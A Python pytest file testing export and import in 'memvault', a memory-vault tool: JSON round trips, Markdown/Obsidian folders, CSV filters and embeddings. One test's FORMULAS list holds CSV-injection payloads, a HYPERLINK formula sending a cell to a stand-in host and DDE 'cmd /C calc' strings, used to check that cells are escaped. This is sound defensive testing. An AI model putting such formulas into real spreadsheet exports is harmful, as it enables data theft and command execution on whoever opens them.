"""`memvault export`: lossless json/jsonl (round trip), notes, CSV; `import json` back."""

from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers import FIXTURES, opened, write
from hypothesis import example, given, settings
from hypothesis import strategies as st

from memvault.cli.main import cli
from memvault.store.flows.export import ExportOptions
from memvault.store.flows.records import KINDS
from memvault.store.memory_store import MemoryStore
from memvault.store.queries.recall import ContextQuery
from memvault.store.queries.search import SearchQuery
from memvault.vault_io.parser import parse_note

SOURCE = """---
memory: source
---
# About me
- I live in Lisbon
- I drink coffee black
- Prefers [[Editor setup]] with dark themes
"""


@pytest.fixture(autouse=True)
def no_vectors(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MEMVAULT_EMBEDDING_MODEL", "none")


def _export(store: MemoryStore, tmp: Path, fmt: str = "json", **kw: object) -> Path:
    out = tmp / f"export.{fmt}"
    store.export(ExportOptions(format=fmt, output=out, include_deleted=True, **kw))  # type: ignore[arg-type]
    return out


def _body(path: Path) -> dict:
    """An export document without what names the export itself."""
    doc = json.loads(path.read_text("utf-8"))
    for key in ("exported_at", "vault"):
        doc.pop(key)
    return doc


def _jsonl_body(path: Path) -> list[dict]:
    lines = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    for key in ("exported_at", "vault"):
        lines[0].pop(key)
    return lines


def _a_rich_vault(vault: Path) -> MemoryStore:
    write(vault, "About me.md", SOURCE)
    write(vault, "Editor setup.md", "# Editor setup\nan ordinary note")
    store = MemoryStore.open(str(vault))
    store.sync()
    first = store.add("Prefers dark mode", "preference", tags=["ui"], links=["Editor setup"])
    store.update(first.id, content="Prefers light mode", reason="changed mind")
    gone = store.add("An idea to forget", "semantic")
    store.forget(gone.id, reason="obsolete")
    write(vault, "About me.md", SOURCE.replace("coffee black", "coffee with milk"))
    store.sync()
    store.ingest(FIXTURES / "imports" / "claude-code-session.jsonl")
    store.import_("mem0", FIXTURES / "imports" / "mem0-get_all.json")
    store.context(ContextQuery("coffee and light mode")).to_json()  # recall statistics
    return store


def test_json_export_holds_everything_the_state_knows(vault: Path, tmp_path: Path) -> None:
    store = _a_rich_vault(vault)
    try:
        doc = json.loads(_export(store, tmp_path).read_text("utf-8"))
    finally:
        store.close()
    assert doc["format"] == "memvault-export" and doc["version"] == 2 and doc["memory_folder"] == "Memory"
    assert list(doc)[-len(KINDS):] == list(KINDS)
    mems = {m["content"]: m for m in doc["memory"]}
    light = mems["Prefers light mode"]
    assert [(v["version"], v["reason"], v["trace"]["content"]) for v in light["versions"]] == [
        (1, "changed mind", "Prefers dark mode")]
    assert light["related"] == ["Editor setup"] and light["tags"] == ["ui"] and light["recall"]["retrieval_count"] >= 1
    forgotten = mems["An idea to forget"]
    assert (forgotten["status"], forgotten["forgotten"]["reason"], forgotten["path"]) == ("deleted", "obsolete", None)
    kinds = {s["kind"] for s in doc["source"]}
    assert kinds == {"source", "session"}
    session = next(s for s in doc["source"] if s["kind"] == "session")
    assert session["session"]["client"] == "claude-code" and session["session"]["turns"] == 5
    assert [h["trace"]["content"] for h in doc["fact_history"]] == ["I drink coffee black"]
    assert {f["text"] for f in doc["fact"]} >= {"I drink coffee with milk", "The staging database is called db2."}
    fact = next(f for f in doc["fact"] if f["text"] == "The staging database is called db2.")
    assert fact["anchor"]["block_id"] == "t5" and fact["anchor"]["source_uri"].endswith("#^t5")
    edges = {(e["kind"], e["target"], e["target_id"]) for e in doc["edge"]}
    assert ("related", "Editor setup", None) in edges  # an ordinary note: no id in a portable export
    assert {i["source"] for i in doc["import"]} == {"mem0", "session"}


def test_import_of_an_export_into_an_empty_vault_gives_the_same_document(tmp_path: Path) -> None:
    src, dst = tmp_path / "a", tmp_path / "b"
    src.mkdir()
    dst.mkdir()
    store = _a_rich_vault(src)
    try:
        first = _export(store, tmp_path / "1")
        first_l = _export(store, tmp_path / "1", "jsonl")
    finally:
        store.close()
    with opened(dst) as store:
        report = store.import_("json", first)
        assert report.errors == [] and report.imported == 7  # 5 memories, 2 sources
        second = _export(store, tmp_path / "2")
        assert _body(second) == _body(first)
        again = store.import_("jsonl", first_l)
        assert (again.imported, again.updated, again.errors) == (0, 0, [])
        assert _jsonl_body(_export(store, tmp_path / "3", "jsonl")) == _jsonl_body(first_l)
        light = store.search(SearchQuery("light mode", mode="keyword", what="memories")).to_json()["hits"][0]
        assert [h.content for h in store.history(light["id"])] == ["Prefers light mode", "Prefers dark mode"]


WORDS = ["alpha", "bravo", "coffee", "delta", "editor", "falcon", "garden", "harbor", "island", "jasmine"]
words = st.lists(st.sampled_from(WORDS), min_size=3, max_size=5).map(" ".join)
ops = st.lists(
    st.one_of(
        st.tuples(st.just("add"), words, st.sampled_from(["semantic", "identity", "procedural"]),
                  st.lists(st.sampled_from(["ui", "work"]), unique=True, max_size=2)),
        st.tuples(st.just("update"), st.integers(0, 9), words),
        st.tuples(st.just("forget"), st.integers(0, 9)),
        st.tuples(st.just("restore"), st.integers(0, 9)),
        st.tuples(st.just("recall"), words),
        st.tuples(st.just("source"), st.integers(0, 1), st.lists(words, min_size=1, max_size=3)),
        st.tuples(st.just("session"), st.integers(0, 1), st.lists(words, min_size=1, max_size=3)),
    ),
    min_size=1, max_size=12,
)


def _apply(store: MemoryStore, root: Path, steps: list[tuple]) -> None:
    ids: list[str] = []
    for step in steps:
        kind = step[0]
        try:
            if kind == "add":
                ids.append(store.add(step[1], step[2], tags=step[3]).id)
            elif kind == "update" and ids:
                store.update(ids[step[1] % len(ids)], content=step[2], reason="generated")
            elif kind == "forget" and ids:
                store.forget(ids[step[1] % len(ids)], reason="generated")
            elif kind == "restore" and ids:
                store.restore(ids[step[1] % len(ids)])
            elif kind == "recall":
                store.context(ContextQuery(step[1])).to_json()
            elif kind == "source":
                write(root, f"Sources/S{step[1]}.md", "---\nmemory: source\n---\n" + "".join(f"- I {w}\n" for w in step[2]))
                store.sync()
            elif kind == "session":
                lines = [json.dumps({"role": "user", "content": f"I prefer {w}.", "timestamp": 1767225600 + i})
                         for i, w in enumerate(step[2])]
                store.ingest(io.BytesIO("\n".join(lines).encode()), session=f"s{step[1]}")
        except Exception as exc:  # an operation the state forbids (restore of a live memory...)
            if type(exc).__name__ not in ("MemoryOpError",):
                raise


@settings(max_examples=12)
@given(steps=ops)
@example(steps=[("add", "alpha alpha alpha", "semantic", []), ("update", 0, "alpha alpha alpha"),
                ("session", 0, ["alpha delta alpha", "alpha alpha alpha"]), ("session", 1, ["alpha alpha alpha"])])
def test_round_trip_over_generated_stores(steps: list[tuple]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        src, dst = Path(tmp) / "a", Path(tmp) / "b"
        src.mkdir()
        dst.mkdir()
        with opened(src) as store:
            store.sync()
            _apply(store, src, steps)
            first = _export(store, Path(tmp) / "1")
        with opened(dst) as store:
            report = store.import_("json", first)
            assert report.errors == []
            second = _export(store, Path(tmp) / "2")
        assert _body(second) == _body(first)


def test_markdown_and_obsidian_folders(vault: Path, tmp_path: Path) -> None:
    with opened(vault) as store:
        store.sync()
        a = store.add("Uses [[Editor setup]] daily", "procedural", tags=["tools"])
        b = store.add("Prefers tabs", "preference", tags=["ui"], links=["Editor setup"])
        gone = store.add("Old and forgotten", "semantic")
        store.forget(gone.id)
        stem_a = Path(store.show(a.id).path).stem
        write(vault, "Memory/semantic/links.md", f"---\nid: m-links\n---\nSee [[{stem_a}]] for the tools.\n")
        store.sync()
        store.export(ExportOptions(format="markdown", output=tmp_path / "md"))
        store.export(ExportOptions(format="obsidian", output=tmp_path / "obs", include_deleted=True))
    md = {p.relative_to(tmp_path / "md").as_posix(): p.read_text("utf-8") for p in (tmp_path / "md").rglob("*.md")}
    assert sorted(md) == sorted([f"procedural/{stem_a}.md", f"semantic/{Path(b.path).name}", "semantic/links.md"])
    links = parse_note("x.md", md["semantic/links.md"].encode())
    assert links.body.endswith(f"## Related\n- [[{stem_a}]]\n")
    tabs = md[f"semantic/{Path(b.path).name}"]
    assert "id: " + b.id in tabs and "#ui" not in tabs and tabs.endswith("## Related\n- [[Editor setup]]\n")
    obs = {p.relative_to(tmp_path / "obs").as_posix(): p.read_text("utf-8") for p in (tmp_path / "obs").rglob("*.md")}
    assert "Prefers tabs\n\n#ui\n" in obs[f"semantic/{Path(b.path).name}"]
    forgotten = [p for p in obs if p.startswith("forgotten/semantic/")]
    assert len(forgotten) == 1 and "forgotten: forgotten" in obs[forgotten[0]]


def test_csv_and_the_filters(vault: Path, tmp_path: Path) -> None:
    with opened(vault) as store:
        store.sync()
        store.add("Prefers tabs", "preference", tags=["ui", "editor"])
        store.add("Deploy on Fridays never", "procedural", scope="project:x")
        gone = store.add("Forgotten thing here", "semantic")
        store.forget(gone.id)
    runner = CliRunner()
    r = runner.invoke(cli, ["--vault", str(vault), "export", "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(r.output)))
    assert [(x["content"], x["type"], x["tags"], x["status"]) for x in rows] and r.exit_code == 0
    assert sorted(x["content"] for x in rows) == ["Deploy on Fridays never", "Prefers tabs"]
    r = runner.invoke(cli, ["--vault", str(vault), "export", "--format", "csv", "--include-deleted", "--types", "fact"])
    assert sorted(x["content"] for x in csv.DictReader(io.StringIO(r.output))) == ["Forgotten thing here", "Prefers tabs"]
    r = runner.invoke(cli, ["--vault", str(vault), "export", "--format", "jsonl", "--scope", "project:x"])
    records = [json.loads(line) for line in r.output.splitlines()]
    assert [m["content"] for m in records if m["record"] == "memory"] == ["Deploy on Fridays never"]
    r = runner.invoke(cli, ["--vault", str(vault), "export", "--format", "markdown"])
    assert r.exit_code == 2 and "--output FOLDER is required" in r.output
    r = runner.invoke(cli, ["--vault", str(vault), "export", "--types", "nonsense"])
    assert r.exit_code == 2 and "unknown memory type" in r.output


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3 is the answer",
            "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted by hand", "Plain = fine"]


def test_csv_cells_cannot_start_a_spreadsheet_formula(vault: Path, tmp_path: Path) -> None:
    """OWASP's CSV injection defence: a cell starting with = + - @ (or tab,
    CR) gets a leading ' that a spreadsheet shows as text; a cell already
    starting with ' before one of those gets one more, so `import csv`
    takes exactly one off and gets the memory back as it was. json is untouched."""
    with opened(vault) as store:
        store.sync()
        for text in FORMULAS:
            store.add(text, "semantic", tags=["-x"])
        store.export(ExportOptions(format="csv", output=tmp_path / "m.csv"))
        store.export(ExportOptions(format="json", output=tmp_path / "m.json"))
    raw = (tmp_path / "m.csv").read_text("utf-8")
    rows = list(csv.DictReader(io.StringIO(raw)))
    cells = {x["content"] for x in rows}
    assert cells == {"'" + t if t[0] in "=+-@" else ("'" + t if t.startswith("'=") else t) for t in FORMULAS}
    assert all(x["tags"] == "'-x" for x in rows)
    for row in csv.reader(io.StringIO(raw)):  # no cell of any column starts a formula
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
    assert {m["content"] for m in json.loads((tmp_path / "m.json").read_text("utf-8"))["memory"]} == set(FORMULAS)
    other = tmp_path / "other"
    other.mkdir()
    with opened(other) as store:
        assert store.import_("csv", tmp_path / "m.csv").imported == len(FORMULAS)
        store.export(ExportOptions(format="json", output=tmp_path / "back.json"))
    back = json.loads((tmp_path / "back.json").read_text("utf-8"))["memory"]
    assert sorted(m["content"] for m in back) == sorted(FORMULAS)


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a"), max_size=6) | st.text(max_size=8))
def test_a_guarded_cell_never_starts_a_formula_and_comes_back_as_it_was(text: str) -> None:
    from memvault.store.flows.csv_cells import guard, unguard

    assert guard(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert unguard(guard(text)) == text


def test_a_foreign_json_is_refused_clearly(vault: Path, tmp_path: Path) -> None:
    (tmp_path / "x.json").write_text('{"hello": 1}')
    r = CliRunner().invoke(cli, ["--vault", str(vault), "import", "json", str(tmp_path / "x.json")])
    assert r.exit_code == 1 and "is not a memvault export" in r.output


def test_embeddings_travel_with_the_export(vault: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("MEMVAULT_EMBEDDING_MODEL")
    with opened(vault) as store:
        store.sync()
        store.add("Prefers dark mode in every editor", "semantic")
        store.embed()
        out = tmp_path / "e.jsonl"
        store.export(ExportOptions(format="jsonl", output=out, embeddings=True, include_deleted=True))
    record = next(json.loads(line) for line in out.read_text().splitlines() if '"record": "memory"' in line)
    assert record["embedding"]["model"] and len(record["embedding"]["chunks"]) == 1
    other = tmp_path / "other"
    other.mkdir()
    with opened(other) as store:
        store.import_("jsonl", out)
        report = store.embed()
        assert (report.chunked, report.embedded, report.pending) == (1, 0, 0)  # found in the cache: nothing embedded
        status = store.model_status()
        assert status.coverage is not None and status.coverage.embedded == status.coverage.chunks == 1
